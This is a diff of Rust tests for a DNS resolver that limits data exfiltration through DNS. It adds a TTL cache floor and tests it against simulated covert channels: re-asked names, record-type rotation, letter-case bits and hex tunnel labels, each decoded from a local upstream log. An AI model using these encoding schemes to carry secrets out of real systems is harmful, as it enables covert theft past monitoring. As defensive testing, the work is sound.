@@ -219,15 +219,16 @@ fn new_names_are_cut_at_the_hard_limit_while_seen_names_keep_working() {
     assert!((40..=70).contains(&passed), "{passed} names passed");
     assert_eq!(lab.asked(".t.cdn.test"), before);
 
-    // Cooldown: even a short new name is refused; a seen one (TTL 0, so it
-    // goes upstream again) still resolves; other domains are untouched.
+    // Cooldown: even a short new name is refused; a seen one still
+    // resolves, from the cache (its TTL 0 answer is held min_ttl_secs), so
+    // nothing leaves; other domains are untouched.
     assert_eq!(
         rcode(dns.udp, "x.cdn.test", RecordType::A),
         ResponseCode::Refused
     );
     let asked_seen = lab.up.count(seen);
     assert_eq!(rcode(dns.udp, seen, RecordType::A), ResponseCode::NoError);
-    assert_eq!(lab.up.count(seen), asked_seen + 1, "seen, not cached");
+    assert_eq!(lab.up.count(seen), asked_seen, "held, not asked again");
     assert_eq!(
         rcode(dns.udp, "fresh.other.test", RecordType::A),
         ResponseCode::NoError
@@ -305,7 +306,12 @@ fn case_variants_and_names_under_a_public_suffix_are_charged() {
     assert_eq!(lab.asked(".github.io"), NAMES);
     drop(dns);
 
-    let (dns, _) = lab.serve("on", &policy("  soft_bytes: 1024\n  hard_bytes: 2048\n"));
+    // No floor: with one, every case variant after the first is a cache
+    // hit (the cache ignores case) and none leaves at all.
+    let (dns, _) = lab.serve(
+        "on",
+        &policy("  soft_bytes: 1024\n  hard_bytes: 2048\n  min_ttl_secs: 0\n"),
+    );
     let case_passed = send(&dns, &case);
     let psl_passed = send(&dns, &psl);
     eprintln!("of {NAMES}: {case_passed} case variants and {psl_passed} github.io names passed");
@@ -323,6 +329,18 @@ fn case_variants_and_names_under_a_public_suffix_are_charged() {
         2,
         "one alert per budget:\n{stderr}"
     );
+    drop(dns);
+
+    // Defaults: the first variant's answer is held 30 s; the other 199 are
+    // answered from the cache and carry nothing out.
+    let before = lab.asked(".c.cdn.test");
+    let (dns, _) = lab.serve("held", &policy("  soft_bytes: 8192\n"));
+    assert_eq!(send(&dns, &case), NAMES);
+    assert_eq!(lab.asked(".c.cdn.test"), before + 1);
+    // The client (and the fence, fed the same records) is told to hold it
+    // as long, though the zone said TTL 0.
+    let m = query(dns.udp, &case[0], RecordType::A);
+    assert!((25..=30).contains(&m.answers[0].ttl), "{:?}", m.answers);
 }
 
 /// The zones behind every name of the corpus.
@@ -351,7 +369,8 @@ fn the_legit_corpus_replays_without_an_alert_or_a_denial() {
     // Default limits: what a real workload must stay under.
     let (dns, audit) = lab.serve("corpus", &policy);
     // 200 new names a second, a busy agent's peak (the budget drains with
-    // time, so replaying faster than real is the harder test).
+    // time, so replaying faster than real is the harder test), each asked
+    // as a browser does: A, AAAA and HTTPS, three questions upstream.
     let started = Instant::now();
     for (i, n) in names.iter().enumerate() {
         let due = started + Duration::from_millis(5 * i as u64);
@@ -361,9 +380,44 @@ fn the_legit_corpus_replays_without_an_alert_or_a_denial() {
         let m = query(dns.udp, n, RecordType::A);
         assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{n}");
         assert_eq!(answers(&m).len(), 1, "{n}");
+        for t in [RecordType::AAAA, RecordType::HTTPS] {
+            assert_ne!(rcode(dns.udp, n, t), ResponseCode::Refused, "{n} {t}");
+        }
     }
-    let lines = audit_lines(&audit, names.len());
-    assert_eq!(lines.len(), names.len());
+    let upstream = lab.up.names().len();
+    assert_eq!(upstream, 3 * names.len(), "each question left once");
+    // Browsers and SDKs ask the same names again and again: every tenth
+    // of the last 1,000 names (asked within the 30 s floor), five more
+    // times, in both address types. The zone answers with TTL 0, so
+    // without the floor each would go upstream again.
+    let mut repeats = 0;
+    for _ in 0..5 {
+        for n in names.iter().rev().take(1000).step_by(10) {
+            for t in [RecordType::A, RecordType::AAAA] {
+                assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
+                repeats += 1;
+            }
+        }
+    }
+    assert_eq!(lab.up.names().len(), upstream, "repeats were held");
+    // Later, every tenth name again, once the first ones' floor has run
+    // out (the replay takes longer than 30 s): those go upstream again,
+    // are charged as re-asks, and still raise nothing.
+    let waited = started + Duration::from_secs(31);
+    if let Some(wait) = waited.checked_duration_since(Instant::now()) {
+        std::thread::sleep(wait);
+    }
+    for n in names.iter().step_by(10) {
+        for t in [RecordType::A, RecordType::AAAA] {
+            assert_eq!(rcode(dns.udp, n, t), ResponseCode::NoError, "{n} {t}");
+            repeats += 1;
+        }
+    }
+    let again = lab.up.names().len() - upstream;
+    eprintln!("corpus: {upstream} questions upstream, then {again} re-asked after the floor");
+    assert!(again > 0, "positive control: the floor ran out for some");
+    let lines = audit_lines(&audit, 3 * names.len() + repeats);
+    assert_eq!(lines.len(), 3 * names.len() + repeats);
     assert!(
         lines
             .iter()
@@ -455,7 +509,7 @@ fn check_validates_qtypes_and_warns_about_doh_endpoints() {
     let dir = TempDir::new("exfil-check");
     let bad = dir.write(
         "bad.yaml",
-        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n    qtypes: [A, BOGUS]\n  - destination: 192.0.2.1\n    qtypes: [A]\nexfil:\n  soft_bytes: 4096\n  hard_bytes: 1024\n",
+        "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n    qtypes: [A, BOGUS]\n  - destination: 192.0.2.1\n    qtypes: [A]\nexfil:\n  soft_bytes: 4096\n  hard_bytes: 1024\n  min_ttl_secs: 100000\n",
     );
     let (code, out) = check(&bad);
     assert_ne!(code, 0, "{out}");
@@ -473,6 +527,10 @@ fn check_validates_qtypes_and_warns_about_doh_endpoints() {
         out.contains("bad.yaml:9") && out.contains("exfil.hard_bytes"),
         "{out}"
     );
+    assert!(
+        out.contains("bad.yaml:10") && out.contains("exfil.min_ttl_secs"),
+        "{out}"
+    );
 
     let doh = dir.write(
         "doh.yaml",
@@ -486,4 +544,310 @@ fn check_validates_qtypes_and_warns_about_doh_endpoints() {
     );
     assert!(out.contains("doh.yaml:5"), "{out}");
     assert!(!out.contains("doh.yaml:3"), "{out}");
+}
+
+/// A plain UDP client for floods: one socket, one question at a time.
+struct Asker {
+    sock: std::net::UdpSocket,
+    server: std::net::SocketAddr,
+    id: u16,
+}
+
+impl Asker {
+    fn new(server: std::net::SocketAddr) -> Asker {
+        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
+        Asker {
+            sock,
+            server,
+            id: 0,
+        }
+    }
+
+    /// The reply's rcode (0 NOERROR, 5 REFUSED, ...).
+    fn ask(&mut self, name: &str, qtype: RecordType) -> u8 {
+        self.id = self.id.wrapping_add(1);
+        let mut q = raw_query(self.id, name);
+        let at = q.len() - 4;
+        q[at..at + 2].copy_from_slice(&u16::from(qtype).to_be_bytes());
+        self.sock.send_to(&q, self.server).unwrap();
+        let mut buf = [0u8; 1500];
+        loop {
+            let (n, _) = self.sock.recv_from(&mut buf).expect("a reply");
+            if n >= 12 && buf[..2] == self.id.to_be_bytes() {
+                return buf[3] & 0x0f;
+            }
+        }
+    }
+}
+
+/// Deterministic random bytes.
+fn secret(len: usize, seed: u64) -> Vec<u8> {
+    let mut rng = seed;
+    (0..len)
+        .map(|_| {
+            rng = rng
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            (rng >> 56) as u8
+        })
+        .collect()
+}
+
+/// The red team's channel: pay once for 256 names `00`..`ff`, then send
+/// one byte a question by which of them is asked, the attacker's name
+/// server answering with TTL 0. The attacker's view is the upstream's log.
+#[test]
+fn re_asked_names_carry_no_more_than_the_budget_to_a_ttl0_name_server() {
+    const SECRET: usize = 20 * 1024;
+    let lab = Lab::new("127.0.0.37", &["cdn.test"]);
+    let secret = secret(SECRET, 11);
+    let names: Vec<String> = (0..=255u8).map(|i| format!("{i:02x}.k.cdn.test")).collect();
+    let policy = |exfil: &str| {
+        format!(
+            "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
+        )
+    };
+    // Returns the bytes the attacker decoded and the questions refused.
+    let run = |exfil: &str| {
+        let (dns, _) = lab.serve("reask", &policy(exfil));
+        let mut asker = Asker::new(dns.udp);
+        let start = lab.up.sent.lock().unwrap().len();
+        for n in &names {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let paid = lab.up.sent.lock().unwrap().len();
+        let (mut refused, mut in_a_row) = (0, 0);
+        for &byte in &secret {
+            match asker.ask(&names[usize::from(byte)], RecordType::A) {
+                0 => in_a_row = 0,
+                5 => {
+                    refused += 1;
+                    in_a_row += 1;
+                }
+                other => panic!("rcode {other}"),
+            }
+            // Cut off for good: stop rather than wait out the drain.
+            if in_a_row > 500 {
+                break;
+            }
+        }
+        let log = lab.up.sent.lock().unwrap();
+        assert_eq!(paid - start, 256, "the purchase left");
+        let decoded: Vec<u8> = log[paid..]
+            .iter()
+            .filter_map(|(n, _)| u8::from_str_radix(n.strip_suffix(".k.cdn.test")?, 16).ok())
+            .collect();
+        (decoded, refused)
+    };
+
+    // Positive control, the budget off: the whole secret arrives.
+    let (out, refused) = run("  budget: off\n");
+    eprintln!(
+        "budget off: {} of {SECRET} bytes out, {refused} refused",
+        out.len()
+    );
+    assert_eq!(out, secret, "the channel works");
+    assert!(out.len() > DEFAULT_HARD_BYTES as usize);
+
+    // The charge alone (no floor): each re-ask costs the choice it carries.
+    let (out, refused) = run("  min_ttl_secs: 0\n");
+    eprintln!(
+        "charge, no floor: {} bytes out, {refused} refused",
+        out.len()
+    );
+    assert!(out.len() < DEFAULT_HARD_BYTES as usize, "{}", out.len());
+    assert!(refused > 0);
+    assert_eq!(out[..], secret[..out.len()], "what left is a prefix");
+
+    // Defaults: the floor holds each answer 30 s, so a re-ask is a cache
+    // hit that never leaves, and every question is still answered.
+    let (out, refused) = run("");
+    eprintln!("defaults: {} bytes out, {refused} refused", out.len());
+    assert_eq!((out.len(), refused), (0, 0));
+}
+
+const DEFAULT_HARD_BYTES: u32 = allowdns::serve::exfil::DEFAULT_HARD_BYTES;
+
+/// Every strategy at once, each question carrying as much as it can:
+/// a new name with 64 bits of hex; one of 64 seen names in one of four
+/// types (8 bits); an 8-letter label whose case carries 8 bits, in one of
+/// four types (10 bits). TTL 0 answers. The bits the attacker reads are
+/// counted from the upstream's log, names as sent.
+#[test]
+fn a_mix_of_new_names_re_asks_qtype_rotation_and_case_stays_within_the_budget() {
+    const TYPES: [RecordType; 4] = [
+        RecordType::A,
+        RecordType::AAAA,
+        RecordType::HTTPS,
+        RecordType::SVCB,
+    ];
+    let lab = Lab::new("127.0.0.38", &["cdn.test"]);
+    let secret = secret(24 * 1024, 13);
+    let pool: Vec<String> = (0..64).map(|i| format!("w{i:02}.m.cdn.test")).collect();
+    // The bits of the secret, most significant first.
+    let bits: Vec<u8> = secret
+        .iter()
+        .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1))
+        .collect();
+    let take = |at: &mut usize, n: usize| -> u64 {
+        let mut v = 0;
+        for _ in 0..n {
+            v = (v << 1) | u64::from(bits.get(*at).copied().unwrap_or(0));
+            *at += 1;
+        }
+        v
+    };
+    // What one question in the log carries, as the attacker decodes it.
+    let read = |name: &str, qtype: RecordType| -> Option<(u64, usize)> {
+        let t = TYPES.iter().position(|&x| x == qtype)? as u64;
+        if let Some(hex) = name.strip_suffix(".n.m.cdn.test") {
+            return Some((u64::from_str_radix(hex, 16).ok()?, 64));
+        }
+        if let Some(word) = name.strip_suffix(".c.m.cdn.test") {
+            let case = word
+                .bytes()
+                .fold(0, |v, b| (v << 1) | u64::from(b.is_ascii_uppercase()));
+            return Some(((case << 2) | t, 10));
+        }
+        let w: u64 = name
+            .strip_prefix('w')?
+            .strip_suffix(".m.cdn.test")?
+            .parse()
+            .ok()?;
+        Some(((w << 2) | t, 8))
+    };
+    let run = |exfil: &str| {
+        let (dns, _) = lab.serve(
+            "mix",
+            &format!(
+                "agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\nexfil:\n{exfil}"
+            ),
+        );
+        let mut asker = Asker::new(dns.udp);
+        for n in &pool {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let paid = lab.up.sent.lock().unwrap().len();
+        let (mut at, mut round, mut in_a_row, mut refused) = (0, 0usize, 0, 0);
+        while at < bits.len() && in_a_row < 500 {
+            let (name, qtype) = match round % 3 {
+                0 => (
+                    format!("{:016x}.n.m.cdn.test", take(&mut at, 64)),
+                    RecordType::A,
+                ),
+                1 => {
+                    let v = take(&mut at, 8);
+                    (pool[(v >> 2) as usize].clone(), TYPES[(v & 3) as usize])
+                }
+                _ => {
+                    let v = take(&mut at, 10);
+                    let word: String = "abcdefgh"
+                        .chars()
+                        .enumerate()
+                        .map(|(i, c)| {
+                            if (v >> (2 + 7 - i)) & 1 == 1 {
+                                c.to_ascii_uppercase()
+                            } else {
+                                c
+                            }
+                        })
+                        .collect();
+                    (format!("{word}.c.m.cdn.test"), TYPES[(v & 3) as usize])
+                }
+            };
+            round += 1;
+            // hickory answers a type its wildcard lacks with NXDOMAIN.
+            match asker.ask(&name, qtype) {
+                0 | 3 => in_a_row = 0,
+                5 => {
+                    refused += 1;
+                    in_a_row += 1;
+                }
+                other => panic!("{name}: rcode {other}"),
+            }
+        }
+        let log = lab.up.sent.lock().unwrap();
+        let out_bits: usize = log[paid..]
+            .iter()
+            .filter_map(|(n, t)| read(n, *t))
+            .map(|(_, b)| b)
+            .sum();
+        (out_bits / 8, refused, at / 8)
+    };
+
+    // Positive control, the budget off: the whole secret arrives, and the
+    // attacker's decoding is the secret.
+    let (out, refused, sent) = run("  budget: off\n");
+    eprintln!("mix, budget off: {out} bytes out of {sent} sent, {refused} refused");
+    assert!(out >= secret.len() && refused == 0, "{out} {refused}");
+    {
+        let log = lab.up.sent.lock().unwrap();
+        let mut decoded = Vec::new();
+        for (v, n) in log.iter().skip(64).filter_map(|(n, t)| read(n, *t)) {
+            for i in (0..n).rev() {
+                decoded.push(((v >> i) & 1) as u8);
+            }
+        }
+        assert_eq!(
+            decoded[..bits.len()],
+            bits[..],
+            "the decoding is the secret"
+        );
+    }
+
+    for exfil in ["  min_ttl_secs: 0\n", ""] {
+        let (out, refused, sent) = run(exfil);
+        eprintln!("mix, {exfil:?}: {out} bytes out of {sent} sent, {refused} refused");
+        assert!(
+            out < DEFAULT_HARD_BYTES as usize,
+            "{exfil:?}: {out} bytes out"
+        );
+    }
+}
+
+/// 300 rapid unique 40-hex labels under one wildcard (about 6 KB, under
+/// the soft limit) are flagged within the first few names.
+#[test]
+fn tunnel_shaped_names_raise_an_alert_early() {
+    let lab = Lab::new("127.0.0.39", &["cdn.test"]);
+    let hex = secret(300 * 20, 17);
+    let names: Vec<String> = hex
+        .chunks(20)
+        .map(|c| {
+            let label: String = c.iter().map(|b| format!("{b:02x}")).collect();
+            format!("{label}.t.cdn.test")
+        })
+        .collect();
+    let policy = |exfil: &str| {
+        format!("agent_name: a\nexpected_outbound:\n  - destination: \"*.cdn.test\"\n{exfil}")
+    };
+    let run = |tag: &str, exfil: &str| {
+        let (dns, audit) = lab.serve(tag, &policy(exfil));
+        let mut asker = Asker::new(dns.udp);
+        for n in &names {
+            assert_eq!(asker.ask(n, RecordType::A), 0, "{n}");
+        }
+        let lines = audit_lines(&audit, names.len());
+        let first = lines.iter().position(|l| !l["exfil"].is_null());
+        (first, dns)
+    };
+    // Positive control: today's budget passes the whole tunnel in silence
+    // (6 KB < the 8 KiB soft limit); here with the budget off.
+    let (first, dns) = run("off", "exfil:\n  budget: off\n");
+    assert_eq!(first, None);
+    assert!(!dns.stderr().contains("[!]"), "{}", dns.stderr());
+    assert_eq!(lab.asked(".t.cdn.test"), names.len());
+    drop(dns);
+
+    let (first, dns) = run("on", "");
+    dns.wait_for("shaped like a DNS tunnel", 1);
+    eprintln!("tunnel shape: first marked name is #{first:?} of 300");
+    assert_eq!(first, Some(7), "the 8th tunnel-shaped name is marked");
+    let stderr = dns.stderr();
+    assert_eq!(
+        stderr.matches("shaped like a DNS tunnel").count(),
+        1,
+        "{stderr}"
+    );
 }
